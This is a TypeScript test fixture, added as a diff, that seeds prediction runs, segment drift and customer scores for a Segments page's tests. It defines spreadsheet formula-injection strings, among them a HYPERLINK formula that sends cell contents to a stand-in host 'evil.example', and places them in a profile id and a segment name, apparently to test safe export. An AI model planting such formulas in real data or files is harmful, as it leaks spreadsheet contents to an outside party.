@@ -1,0 +1,218 @@
+// A brand's prediction history as the scheduled run stores it, for the Segments page's tests
+// (read API over DuckDB, browser): three ok runs a day apart with segment sizes that change and
+// drift against the one before, the newest run's members (one with a profile id and one in a
+// segment a spreadsheet would run as formulas, one without orders), and a profile of an older
+// run that left, whose stale row the newest run's pages must not show.
+import type { Warehouse } from '../../ingest/warehouse/types';
+import type { CustomerPrediction, PredictionRun, SegmentSummary } from '../../src/lib/shared/predictions';
+
+/** A stored run record with plausible values; override any field. */
+export function runRecord(
+  brand: string,
+  runId: string,
+  startedAt: string,
+  fields: Partial<PredictionRun> = {},
+): PredictionRun {
+  return {
+    brand_id: brand,
+    run_id: runId,
+    started_at: startedAt,
+    finished_at: new Date(Date.parse(startedAt) + 30_000).toISOString(),
+    status: 'ok',
+    error: null,
+    customers: 3,
+    buyers: 2,
+    k: 3,
+    silhouette: 0.5,
+    silhouettes: [{ k: 3, silhouette: 0.5 }],
+    segments: [{ name: 'champions', size: 2, share: 2 / 3, centroid: { recency: 1 } }],
+    drift: null,
+    clv: null,
+    clv_refused: 'too few repeat customers (n = 1 < 10)',
+    excluded: [],
+    orders: 4,
+    orders_with_products: 3,
+    timings: { read_ms: 1, compute_ms: 2, write_ms: 3 },
+    ...fields,
+  };
+}
+
+/** A stored profile's scores with plausible values; override any field. */
+export function memberRecord(
+  brand: string,
+  profileId: string,
+  computedAt: string,
+  fields: Partial<CustomerPrediction> = {},
+): CustomerPrediction {
+  return {
+    brand_id: brand,
+    profile_id: profileId,
+    run_id: 'run-1',
+    computed_at: computedAt,
+    orders: 2,
+    revenue: 120.5,
+    recency_days: 3.25,
+    r: 5,
+    f: 4,
+    m: 3,
+    segment: 'champions',
+    churn_probability: 0.125,
+    p_alive: 0.75,
+    expected_purchases_12m: 1.5,
+    predicted_value_12m: 88.25,
+    recommendations: [
+      { product_id: `sku'${profileId}`, reason: 'bought_together', because: ['a'], score: 0.5 },
+    ],
+    ...fields,
+  };
+}
+
+export const HOSTILE_PROFILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+export const HOSTILE_SEGMENT = '@SUM(1,1)';
+
+const DAY_MS = 86_400_000;
+
+export interface SegmentScenario {
+  runs: PredictionRun[];
+  /** The newest run's members by profile id. */
+  members: CustomerPrediction[];
+}
+
+const centroid = (recency: number, frequency: number, monetary: number) => ({
+  recency,
+  frequency,
+  monetary,
+  tenure: recency + 200,
+  events30d: 4.5,
+  web: 0.5,
+  store: 0.25,
+  whatsapp: 0.25,
+  intent: 0.4,
+});
+
+function segments(sizes: Array<[string, number]>): SegmentSummary[] {
+  const total = sizes.reduce((sum, [, size]) => sum + size, 0);
+  return sizes.map(([name, size]) => ({
+    name,
+    size,
+    share: size / total,
+    centroid:
+      name === 'no orders'
+        ? null
+        : name === 'champions'
+          ? centroid(6, 7.5, 640.25)
+          : name === 'at risk'
+            ? centroid(140, 3, 210.5)
+            : centroid(60, 1.2, 45),
+  }));
+}
+
+/** Writes the scenario for `brand` with its newest run ten minutes before `now`. */
+export async function seedSegmentScenario(
+  warehouse: Warehouse,
+  brand: string,
+  now: Date,
+): Promise<SegmentScenario> {
+  const start = (ms: number) => new Date(now.getTime() - ms).toISOString();
+  const oldest = runRecord(brand, `${brand}-run-1`, start(2 * DAY_MS + 600_000), {
+    customers: 8,
+    buyers: 7,
+    k: 3,
+    silhouette: 0.41,
+    silhouettes: [{ k: 3, silhouette: 0.41 }],
+    segments: segments([
+      ['champions', 2],
+      ['at risk', 1],
+      ['occasional', 4],
+      ['no orders', 1],
+    ]),
+  });
+  const middle = runRecord(brand, `${brand}-run-2`, start(DAY_MS + 600_000), {
+    customers: 10,
+    buyers: 9,
+    k: 3,
+    silhouette: 0.44,
+    silhouettes: [{ k: 3, silhouette: 0.44 }],
+    segments: segments([
+      ['champions', 3],
+      ['at risk', 2],
+      ['occasional', 4],
+      ['no orders', 1],
+    ]),
+  });
+  const newest = runRecord(brand, `${brand}-run-3`, start(600_000), {
+    customers: 11,
+    buyers: 10,
+    k: 4,
+    silhouette: 0.52,
+    silhouettes: [
+      { k: 3, silhouette: 0.48 },
+      { k: 4, silhouette: 0.52 },
+      { k: 5, silhouette: 0.43 },
+    ],
+    segments: segments([
+      ['champions', 4],
+      ['at risk', 3],
+      ['occasional', 2],
+      [HOSTILE_SEGMENT, 1],
+      ['no orders', 1],
+    ]),
+    drift: {
+      previous_run_id: middle.run_id,
+      stayed: 5,
+      moved: 4,
+      entered: 2,
+      left: 1,
+      moves: [
+        { from: 'champions', to: 'champions', count: 3 },
+        { from: 'at risk', to: 'champions', count: 1 },
+        { from: 'occasional', to: 'at risk', count: 2 },
+        { from: 'occasional', to: HOSTILE_SEGMENT, count: 1 },
+        { from: '(entered)', to: 'champions', count: 2 },
+        { from: 'occasional', to: '(left)', count: 1 },
+        { from: 'at risk', to: 'at risk', count: 1 },
+        { from: 'no orders', to: 'no orders', count: 1 },
+      ],
+    },
+  });
+  const computedAt = newest.finished_at;
+  const member = (id: string, segment: string, i: number, fields: Partial<CustomerPrediction> = {}) =>
+    memberRecord(brand, id, computedAt, {
+      run_id: newest.run_id,
+      segment,
+      orders: 1 + i,
+      revenue: 50 + 25 * i,
+      recency_days: 3 + i,
+      churn_probability: 0.05 * (i + 1),
+      predicted_value_12m: 100 + 10 * i,
+      ...fields,
+    });
+  const members = [
+    ...['c1', 'c2', 'c3', 'c4'].map((id, i) => member(`${brand}-${id}`, 'champions', i)),
+    ...['r1', 'r2', 'r3'].map((id, i) => member(`${brand}-${id}`, 'at risk', 4 + i)),
+    ...['o1', 'o2'].map((id, i) => member(`${brand}-${id}`, 'occasional', 7 + i)),
+    member(HOSTILE_PROFILE, HOSTILE_SEGMENT, 9),
+    member(`${brand}-n1`, 'no orders', 0, {
+      orders: 0,
+      revenue: 0,
+      recency_days: null,
+      r: null,
+      f: null,
+      m: null,
+      churn_probability: null,
+      p_alive: null,
+      expected_purchases_12m: null,
+      predicted_value_12m: null,
+      recommendations: [],
+    }),
+  ].sort((a, b) => (a.profile_id < b.profile_id ? -1 : 1));
+  // Scored by the middle run, then merged away: its row stays under the older run id.
+  const left = memberRecord(brand, `${brand}-left`, middle.finished_at, {
+    run_id: middle.run_id,
+    segment: 'occasional',
+    computed_at: middle.finished_at,
+  });
+  await warehouse.savePredictions([left, ...members]);
+  for (const run of [oldest, middle, newest]) await warehouse.savePredictionRun(run);
+  return { runs: [newest, middle, oldest], members };
+}
